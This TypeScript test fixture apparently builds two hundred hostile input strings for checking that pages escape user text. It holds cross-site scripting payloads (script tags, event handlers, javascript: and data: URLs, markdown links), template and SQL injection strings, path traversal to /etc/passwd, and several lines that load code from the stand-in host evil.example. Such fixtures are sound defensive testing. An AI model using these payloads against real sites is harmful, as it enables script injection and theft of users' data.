// Two hundred strings that have broken out of pages, for fields of every kind. A script of theirs that
// ran would set `hit` on the window, open a dialog, or ask another host for something.

import { HOSTILE } from "./hostile-texts.ts";

const SCRIPTS = [
  "<script>hit=1</script>",
  "<img src=x onerror=hit=1>",
  "<svg/onload=hit=1>",
  "autofocus onfocus=hit=1 x=",
  "onmouseover=hit=1 style=position:fixed;inset:0 x=",
];

/** What ends the place that the text is in. */
const ENDS = [
  ...['"', "'", "`", ">", '">', "'>", "`>", '\\">', "\n>", "/>"],
  ...["&quot;>", "&#34;>", "&#x22;>", "-->", "--!>", "]]>", "?>"],
  ...["title", "style", "script", "textarea", "noscript", "template", "code", "pre", "svg"].map(
    (name) => `</${name}>`,
  ),
];

const ELEMENTS = [
  "<script src=//evil.example/x.js></script>",
  "<script src=data:text/javascript,hit=1></script>",
  "<script type=module>import 'https://evil.example/x.js'</script>",
  "<script><!--<script></script>hit=1</script>",
  "<SCRIPT>hit=1</SCRIPT>",
  "<scr<script>ipt>hit=1</scr</script>ipt>",
  "<script\u0000>hit=1</script>",
  "<img src='https://evil.example/x.png'>",
  "<img srcset='https://evil.example/x.png 1x' src=x onerror=alert(1)>",
  "<image src=x onerror=hit=1>",
  "<video><source onerror=hit=1></video>",
  "<video src=x onerror=hit=1 autoplay></video>",
  "<audio src=x onerror=hit=1>",
  "<input autofocus onfocus=hit=1>",
  "<details open ontoggle=hit=1><summary>x</summary></details>",
  "<body onload=hit=1>",
  "<html onmouseover=hit=1>",
  "<marquee onstart=hit=1>x</marquee>",
  "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
  "<iframe src=javascript:parent.hit=1></iframe>",
  "<object data='data:text/html,<script>parent.hit=1</script>'></object>",
  "<embed src=javascript:hit=1>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/) }</style>",
  "<form action=https://evil.example/><button>x</button></form>",
  "<a href=javascript:hit=1 ping=https://evil.example/>x</a>",
  "<template><script>hit=1</script></template>",
  "<template shadowrootmode=open><script>hit=1</script></template>",
  "<svg><script>hit=1</script></svg>",
  "<svg><animate onbegin=hit=1 attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:hit=1><text>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg onload=hit=1>'/></svg>",
  "<svg><style><img src=x onerror=hit=1></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=hit=1>",
  "<math href=javascript:hit=1>x</math>",
  "<table><tr><td></table></table><script>hit=1</script>",
  "<select><option></select><img src=x onerror=hit=1>",
  "<noscript><p title='</noscript><img src=x onerror=hit=1>'>",
  "<!--<img src='--><img src=x onerror=hit=1>'>",
  "<!-- comment --!><img src=x onerror=hit=1>",
  "<![CDATA[<script>hit=1</script>]]>",
  "<?php echo 1 ?><script>hit=1</script>",
  "<!DOCTYPE html><html><head>",
  "<plaintext>",
  "<p is=x-hit slot=y part=z>",
];

const ADDRESSES = [
  "javascript:hit=1",
  "JaVaScRiPt:hit=1",
  " javascript:hit=1",
  "java\tscript:hit=1",
  "java\nscript:hit=1",
  "\u0001javascript:hit=1",
  "javascript&colon;hit=1",
  "&#106;avascript:hit=1",
  "javascript://evil.example/%0ahit=1",
  "vbscript:msgbox(1)",
  "data:text/html,<script>hit=1</script>",
  "data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==",
  "blob:https://evil.example/x",
  "file:///etc/passwd",
  "//evil.example/x",
  "\\\\evil.example\\x",
  "/\\evil.example/x",
  "http://evil.example/",
  'https://evil.example/" onclick=hit=1 x="',
  "https://evil.example/'><script>hit=1</script>",
  "https://user:password@evil.example/<svg onload=hit=1>",
  "https://evil.example/\u202egpj.exe",
  "../../../../../etc/passwd",
  '#" onfocus=hit=1 autofocus',
  "?x=<script>hit=1</script>",
  "x:expression(hit=1)",
];

const MARKDOWN = [
  "![x](https://evil.example/x.png)",
  "![x](javascript:hit=1)",
  "[x](javascript:hit=1)",
  "[x](javascript&colon;hit=1)",
  "[x](<javascript:hit=1>)",
  "[x](data:text/html,<script>hit=1</script>)",
  '[x](https://evil.example/ "title\\" onclick=hit=1")',
  "[x](//evil.example/) [y](/x) [z](#x)",
  "[x][1]\n\n[1]: javascript:hit=1",
  "<javascript:hit=1> <https://evil.example/>",
  "https://evil.example/ www.evil.example a@evil.example",
  "# heading\n\n> quote\n\n***\n\n| a | b |\n| - | - |\n| c | d |",
  "```html\n<script>hit=1</script>\n```",
  "<div onclick=hit=1>\n\n**x**\n\n</div>",
  "- [ ] task\n- <img src=x onerror=hit=1>\n1. <b>x",
  "`</code><script>hit=1</script>`",
  "[^1]\n\n[^1]: <script>hit=1</script>",
  "&lt;script&gt;hit=1&lt;/script&gt;",
];

const WORDS = [
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "toString",
  "undefined",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one that somebody might evaluate
  "${hit=1}",
  "{{constructor.constructor('hit=1')()}}",
  "#{hit=1} <%= hit=1 %> [[hit=1]] {% x %}",
  "$& $1 $` $' $$",
  "\\u003cscript\\u003ehit=1\\u003c/script\\u003e",
  "%3Cscript%3Ehit=1%3C/script%3E",
  "+ADw-script+AD4-hit=1+ADw-/script+AD4-",
  "\uff1cscript\uff1ehit=1\uff1c/script\uff1e",
  "color: red; background: url(https://evil.example/); }",
  "} body { display: none } @import url(//evil.example/);",
  "*/ } * { behavior: url(x) } /*",
  "'; DROP TABLE coalitions; --",
  "a\u0000b\u0001c\u0008d\u000be\u001bf\u007fg\u0085h",
  "half \ud800 a pair, the other \udc00 half, \udbff",
  "\u202ereversed\u202c \u2066isolated\u2069 \u200f\u200b\u2060\ufeff",
  " \u00a0\u2003\t\n\r\n ",
  "\u2028\u2029",
  "Z\u0351\u036b\u0343a\u0363\u0366l\u0301g\u0336o\u0338".repeat(20),
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}".repeat(50),
  "<".repeat(1000),
  "\"'`&".repeat(300),
  "long".repeat(500),
  "<b>".repeat(400),
];

const BREAKOUTS = ENDS.flatMap((end) => SCRIPTS.map((script) => `${end}${script}`));
const LISTED = [...HOSTILE, ...ELEMENTS, ...ADDRESSES, ...MARKDOWN, ...WORDS];

/** Every listed string, and as many ways to break out as make up the two hundred. */
export const HOSTILE_STRINGS: readonly string[] = (() => {
  const listed = [...new Set(LISTED)];
  // Each ending appears once, each time with a different script, before any appears twice.
  const turned = BREAKOUTS.map((_, index) => {
    const [end, round] = [index % ENDS.length, Math.floor(index / ENDS.length)];
    return BREAKOUTS[end * SCRIPTS.length + ((end + round) % SCRIPTS.length)] ?? "";
  });
  return [...listed, ...turned].slice(0, 200);
})();
